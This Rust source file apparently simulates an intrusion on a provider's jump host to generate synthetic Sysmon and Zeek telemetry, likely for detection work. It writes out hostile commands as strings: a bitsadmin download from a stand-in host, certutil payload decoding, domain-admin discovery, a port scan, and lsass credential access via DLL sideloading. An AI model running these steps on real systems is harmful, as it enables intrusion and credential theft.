//! On the provider's jump host: tools, discovery, credentials, the implant.

use super::{Actor, Step};
use crate::image::{self, Image};
use crate::net::{Fetch, Flow};
use crate::outside::TOOL_SERVER;
use crate::time::{MILLI, MINUTE, Moment, SECOND};
use crate::world::{ADM_LINDQVIST, Ip, MSP_JUMP, Process};

/// Through a library without a file behind it: Sysmon writes UNKNOWN.
const UNBACKED_TRACE: &str = r"C:\Windows\SYSTEM32\ntdll.dll+a5594|C:\Windows\System32\KERNELBASE.dll+20edd|C:\ProgramData\temp\vmtools.dll+1a20|UNKNOWN(000001D3A2F70C1B)";

pub(super) fn minutes(count: i64) -> i64 {
    count * MINUTE
}

impl Actor<'_> {
    /// `bitsadmin` asks the BITS service, which fetches the file and writes it.
    pub(super) fn fetch_tool(&mut self, t: Moment, shell: &Process, file: &str, size: u64) {
        self.at(Step::BitsDownload, &ADM_LINDQVIST);
        let path = format!("/pkg/2017/{file}");
        let command = format!(
            r"bitsadmin /transfer upd /download /priority normal http://cdn-update.example{path} C:\ProgramData\temp\{file}"
        );
        self.run(t, shell, &image::BITSADMIN, command, 9);
        let fetch = Fetch {
            agent: "Microsoft BITS/7.7",
            mime: "text/plain",
            sent: 410,
            received: size + 380,
            duration: 3 * SECOND,
            ..Fetch::get(&TOOL_SERVER, &path, "", &mut self.emit.rng)
        };
        let bits = &self.emit.world.base(MSP_JUMP).netsvcs;
        let after = self.emit.fetch(t.plus(700 * MILLI), bits, &fetch);
        self.mark(t.plus(700 * MILLI), "zeek/provider", path.clone());
        self.emit.file(after, bits, &[r"C:\ProgramData\temp\", file]);
    }

    /// `certutil` turns text into a program.
    pub(super) fn decode(&mut self, t: Moment, shell: &Process, from: &str, to: &str) {
        self.at(Step::CertutilDecode, &ADM_LINDQVIST);
        let command = format!(r"certutil -decode C:\ProgramData\temp\{from} C:\ProgramData\temp\{to}");
        let certutil = self.run(t, shell, &image::CERTUTIL, command, 2);
        self.emit.file(t.plus(400 * MILLI), &certutil, &[r"C:\ProgramData\temp\", to]);
    }

    pub(super) fn discover(&mut self, t: Moment, shell: &Process) {
        self.at(Step::Discovery, &ADM_LINDQVIST);
        let questions: [(&'static Image, &'static str); 6] = [
            (&image::WHOAMI, "whoami /all"),
            (&image::NLTEST, "nltest /domain_trusts"),
            (&image::NET, r#"net group "Domain Admins" /domain"#),
            (&image::NET, "net view /domain"),
            (&image::QUSER, "quser"),
            (&image::NLTEST, "nltest /dclist:MERIDIAN"),
        ];
        for (n, (image, command)) in questions.into_iter().enumerate() {
            let at = t.plus(n as i64 * (25 * SECOND + self.emit.rng.between(0, 20 * SECOND)));
            let process = self.run(at, shell, image, command, 3);
            if command.starts_with("net group") {
                let inner = self.emit.spawn(
                    at.plus(60 * MILLI),
                    &process,
                    &image::NET1,
                    r#"C:\Windows\system32\net1 group "Domain Admins" /domain"#,
                    shell.logon,
                );
                self.emit.exit(at.plus(2 * SECOND), &inner);
            }
        }
    }

    /// The decoded program puts the implant in its place and starts it.
    pub(super) fn implant_at_provider(&mut self, t: Moment, shell: &Process) {
        self.at(Step::Implant, &ADM_LINDQVIST);
        let dropper = self.run(t, shell, &image::TOOL_UPDATE, r"C:\ProgramData\temp\mmc-upd.exe", 40);
        self.emit.file(t.plus(SECOND), &dropper, &[image::IMPLANT.path]);
        self.start_implant(t.plus(3 * SECOND), &dropper);
    }

    /// A renamed tcping tries the client's hosts, one after the other.
    pub(super) fn scan(&mut self, t: Moment, shell: &Process) {
        self.at(Step::TcpingScan, &ADM_LINDQVIST);
        let servers = [10, 12, 14, 18, 20].map(|last| (Ip::new(10, 20, 0, last), last != 20));
        let desks = (31..=40).map(|last| (Ip::new(10, 20, 1, last), last < 39));
        let mut at = t;
        for (ip, there) in servers.into_iter().chain(desks) {
            for port in [445, 3389] {
                self.probe(at, shell, ip, port, there);
                at = at.plus(self.emit.rng.between(4 * SECOND, 16 * SECOND));
            }
        }
    }

    fn probe(&mut self, t: Moment, shell: &Process, ip: Ip, port: u16, open: bool) {
        let mut address = String::new();
        ip.push(&mut address);
        let process = self.run(t, shell, &image::TOOL_TCPING, format!("rd.exe -n 1 {address} {port}"), 3);
        let from = (MSP_JUMP.get().ip, self.emit.port());
        let flow = Flow::tcp(t.plus(120 * MILLI), from, (ip, port), "").bytes(0, 0).lasting(4 * MILLI);
        let flow = match open {
            true => Flow { history: "ShAFf", ..flow },
            false => Flow { history: "S", state: "S0", duration: 0, ..flow },
        };
        self.emit.connect(&process, &flow, "-");
    }

    /// A signed program is made to load a library of theirs, which reads lsass.
    pub(super) fn dump_credentials(&mut self, t: Moment, shell: &Process) {
        self.at(Step::CredentialDump, &ADM_LINDQVIST);
        let base = self.emit.world.base(MSP_JUMP);
        self.emit.file(t, shell, &[image::TOOL_SIDELOAD.path]);
        self.emit.file(t.plus(4 * SECOND), shell, &[image::TOOL_SIDELOAD_DLL.path]);
        let run = t.plus(30 * SECOND);
        let process = self.run(
            run,
            shell,
            &image::TOOL_SIDELOAD,
            r"C:\ProgramData\temp\vmtoolsd-cli.exe --cmd info",
            22,
        );
        self.emit.load(run.plus(90 * MILLI), &process, &image::TOOL_SIDELOAD_DLL);
        self.emit.open_process(run.plus(600 * MILLI), &process, &base.lsass, 0x1410, UNBACKED_TRACE);
        self.emit.open_process(run.plus(900 * MILLI), &process, &base.lsass, 0x1010, UNBACKED_TRACE);
        self.emit.file(run.plus(11 * SECOND), &process, &[r"C:\ProgramData\temp\pl.txt"]);
        self.mark(run.plus(90 * MILLI), MSP_JUMP.get().name, image::TOOL_SIDELOAD_DLL.path);
    }
}
